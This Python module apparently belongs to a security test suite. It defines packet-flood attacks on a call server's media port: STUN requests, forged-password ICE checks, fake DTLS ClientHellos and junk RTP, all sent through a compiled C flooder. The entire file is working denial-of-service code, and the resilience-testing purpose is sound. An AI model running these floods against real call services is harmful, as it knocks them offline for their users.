"""Floods of datagrams at the media port of a healthy call, as fast as one core sends them."""

import os
import secrets
import struct
import subprocess
from functools import partial
from pathlib import Path

from tools import stun
from tools.target import ATTACKER, HOST, PROJECT, Attack, Outcome, Target
from tools.wire import Session, offer

SECONDS = 8
SOURCES = 64
TEMPLATES = 256
SOURCE = Path(__file__).with_name("packet_flood.c")
PROGRAM = PROJECT / ".build" / "packet-flood"


def bare() -> bytes:
    """A Binding request without credentials."""
    return stun.message(stun.BINDING, [], fingerprint=True)


def unknown() -> bytes:
    """A connectivity check for a transport that does not exist."""
    return stun.check(secrets.token_hex(4), secrets.token_hex(4), secrets.token_hex(12))


def forged(ufrag: str, own: str) -> bytes:
    """A connectivity check for a transport that exists, with a wrong password."""
    return stun.check(ufrag, own, secrets.token_hex(12))


def client_hello() -> bytes:
    """A DTLS record that begins as a ClientHello does (RFC 6347 §4.2.2)."""
    body = b"\xfe\xfd" + os.urandom(32) + bytes(2) + b"\x00\x02\xc0\x2b\x01\x00"
    handshake = b"\x01" + len(body).to_bytes(3) + bytes(2) + bytes(3) + len(body).to_bytes(3) + body
    return b"\x16\xfe\xfd" + bytes(8) + struct.pack("!H", len(handshake)) + handshake


def media() -> bytes:
    """An RTP packet of nobody."""
    return b"\x80\x6f" + os.urandom(10) + os.urandom(1100)


def flood(make, target: Target) -> Outcome:
    if not PROGRAM.exists() or PROGRAM.stat().st_mtime < SOURCE.stat().st_mtime:
        PROGRAM.parent.mkdir(exist_ok=True)
        subprocess.run(["cc", "-O2", "-Wall", "-o", str(PROGRAM), str(SOURCE)], check=True)
    packets = [make() for _ in range(TEMPLATES)]
    told = subprocess.run(
        [str(PROGRAM), HOST, str(target.media_port), str(SECONDS), str(SOURCES), ATTACKER],
        input=b"".join(struct.pack("!H", len(packet)) + packet for packet in packets), capture_output=True, check=True,
    )  # fmt: skip
    count, sent = map(int, told.stdout.split())
    return Outcome(sent, [f"{count / SECONDS:,.0f} packets a second from {SOURCES} ports"])


def flood_with_forged(target: Target) -> Outcome:
    session = Session(target, target.user())
    own = secrets.token_hex(4)
    reply = session.request("call.join", groupId=target.group, muted=True, media=offer(own, secrets.token_hex(12)))
    lines = reply["media"]["sdp"].splitlines()
    ufrag = next(line.split(":", 1)[1] for line in lines if line.startswith("a=ice-ufrag:"))
    return flood(partial(forged, ufrag, own), target)


ATTACKS = {
    "flood-stun": Attack("A flood of Binding requests", "anybody", SECONDS, partial(flood, bare)),
    "flood-checks": Attack("A flood of checks for nobody", "anybody", SECONDS, partial(flood, unknown)),
    "flood-forged": Attack("A flood of checks with a wrong password", "a user", SECONDS, flood_with_forged),
    "flood-dtls": Attack("A flood of ClientHellos", "anybody", SECONDS, partial(flood, client_hello)),
    "flood-rtp": Attack("A flood of RTP", "anybody", SECONDS, partial(flood, media)),
}
